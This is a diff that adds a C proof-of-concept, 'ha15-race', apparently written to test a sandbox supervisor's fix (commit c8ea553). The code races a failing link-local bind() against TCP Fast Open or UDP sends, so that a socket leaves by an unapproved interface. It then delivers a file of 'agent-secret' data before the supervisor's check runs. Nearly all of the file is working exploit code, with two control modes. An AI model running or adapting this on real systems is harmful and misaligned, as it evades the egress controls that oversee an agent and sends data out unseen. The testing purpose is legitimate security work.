@@ -1,0 +1,141 @@
+/* ha15-race: hostile review h-attack15 (commit c8ea553). c8ea553 gives a
+ * portless DATAGRAM socket its port (bind to the wildcard, port 0) before
+ * reading its device, so that a racing failed bind(fe80::dead%IFNAME) gets
+ * EINVAL before it writes the scope id into sk_bound_dev_if. Two ways round:
+ *
+ *   tfo      a TCP socket (give_port skips SOCK_STREAM): a blocking
+ *            sendto(::ffff:DEST, MSG_FASTOPEN) is a connect and a send in
+ *            one call the supervisor performs; the failed bind lands while
+ *            it reads the payload (ha14-mmsg's page-cache timing), the
+ *            connect goes out of IFNAME and the whole payload is written to
+ *            whoever answers there before the check after the act.
+ *   tfomsg   the same with sendmsg(MSG_FASTOPEN).
+ *   noport   a UDP socket with IP_BIND_ADDRESS_NO_PORT: give_port's own
+ *            bind then assigns no port (__inet6_bind honours the flag for
+ *            every protocol), inet_num stays 0, and the racing failed bind
+ *            still writes the scope id; sendto(::ffff:DEST) leaves by IFNAME.
+ *   udp      control: the same without IP_BIND_ADDRESS_NO_PORT (held by
+ *            c8ea553: the racing bind is EINVAL).
+ *   tcpplain control: TCP, no race (reaches the declared server).
+ *
+ *   ha15-race MODE DEST:PORT IFNAME FILE   (FILE: created by the agent)
+ */
+#include <arpa/inet.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <net/if.h>
+#include <netinet/in.h>
+#include <netinet/tcp.h>
+#include <pthread.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/mman.h>
+#include <sys/socket.h>
+#include <sys/syscall.h>
+#include <time.h>
+#include <unistd.h>
+
+#ifndef IP_BIND_ADDRESS_NO_PORT
+#define IP_BIND_ADDRESS_NO_PORT 24
+#endif
+#ifndef MSG_FASTOPEN
+#define MSG_FASTOPEN 0x20000000
+#endif
+
+#define PAYLOAD 61440
+
+static int sock;
+static unsigned ifindex;
+static unsigned char *map;
+static volatile int bind_rc = 1, bind_err, polls;
+
+static void *racer(void *arg)
+{
+	struct sockaddr_in6 ll = {.sin6_family = AF_INET6};
+	unsigned char vec;
+	(void)arg;
+
+	inet_pton(AF_INET6, "fe80::dead", &ll.sin6_addr);
+	ll.sin6_scope_id = ifindex;
+	for (long i = 0; i < 200000000L; i++) {
+		if (mincore(map, 4096, &vec) == 0 && (vec & 1))
+			break;
+		polls++;
+	}
+	bind_rc = bind(sock, (struct sockaddr *)&ll, sizeof(ll));
+	bind_err = errno;
+	return NULL;
+}
+
+int main(int argc, char **argv)
+{
+	struct sockaddr_in6 dst = {.sin6_family = AF_INET6};
+	char host[64], dev[IFNAMSIZ + 1] = "", *colon;
+	socklen_t dl = sizeof(dev) - 1;
+	const char *mode;
+	pthread_t t;
+	int fd, race, tcp, one = 1;
+	long rc;
+
+	if (argc != 5) {
+		fprintf(stderr, "usage: ha15-race MODE DEST:PORT IFNAME FILE\n");
+		return 2;
+	}
+	mode = argv[1];
+	snprintf(host, sizeof(host), "::ffff:%s", argv[2]);
+	colon = strrchr(host, ':');
+	*colon = '\0';
+	dst.sin6_port = htons((unsigned short)atoi(colon + 1));
+	if (inet_pton(AF_INET6, host, &dst.sin6_addr) != 1)
+		return 2;
+	ifindex = if_nametoindex(argv[3]);
+	fd = open(argv[4], O_RDWR | O_CREAT | O_TRUNC, 0600);
+	if (fd < 0) {
+		perror("agent: open");
+		return 2;
+	}
+	for (int off = 0; off < PAYLOAD; off += 32) {
+		char line[33];
+
+		snprintf(line, sizeof(line), "agent-secret via %-14.14s;", mode);
+		if (write(fd, line, 32) != 32)
+			return 2;
+	}
+	map = mmap(NULL, PAYLOAD, PROT_READ, MAP_SHARED, fd, 0);
+	if (map == MAP_FAILED)
+		return 2;
+	madvise(map, PAYLOAD, MADV_RANDOM);
+	fdatasync(fd);
+	posix_fadvise(fd, 0, 0, POSIX_FADV_DONTNEED);
+	tcp = strncmp(mode, "tfo", 3) == 0 || strcmp(mode, "tcpplain") == 0;
+	sock = socket(AF_INET6, tcp ? SOCK_STREAM : SOCK_DGRAM, 0);
+	if (strcmp(mode, "noport") == 0 &&
+	    setsockopt(sock, IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, &one, sizeof(one)) != 0)
+		perror("agent: IP_BIND_ADDRESS_NO_PORT");
+	race = strcmp(mode, "tcpplain") != 0;
+	if (race && pthread_create(&t, NULL, racer, NULL) != 0)
+		return 2;
+	usleep(1000);
+	if (strcmp(mode, "tfomsg") == 0) {
+		struct iovec iov = {.iov_base = map, .iov_len = PAYLOAD};
+		struct msghdr m = {.msg_name = &dst, .msg_namelen = sizeof(dst), .msg_iov = &iov,
+				   .msg_iovlen = 1};
+
+		rc = sendmsg(sock, &m, MSG_FASTOPEN);
+	} else {
+		rc = sendto(sock, map, PAYLOAD, tcp ? MSG_FASTOPEN : 0, (struct sockaddr *)&dst,
+			    sizeof(dst));
+	}
+	printf("agent: %s = %ld (%s)\n", mode, rc, rc < 0 ? strerror(errno) : "ok");
+	if (race) {
+		pthread_join(t, NULL);
+		printf("agent: racing bind(fe80::dead%%%s) = %d (%s) after %d polls\n", argv[3],
+		       bind_rc, bind_rc ? strerror(bind_err) : "ok", polls);
+	}
+	getsockopt(sock, SOL_SOCKET, SO_BINDTODEVICE, dev, &dl);
+	printf("agent: socket now bound to device '%s'\n", dev);
+	usleep(500 * 1000);
+	return 0;
+}
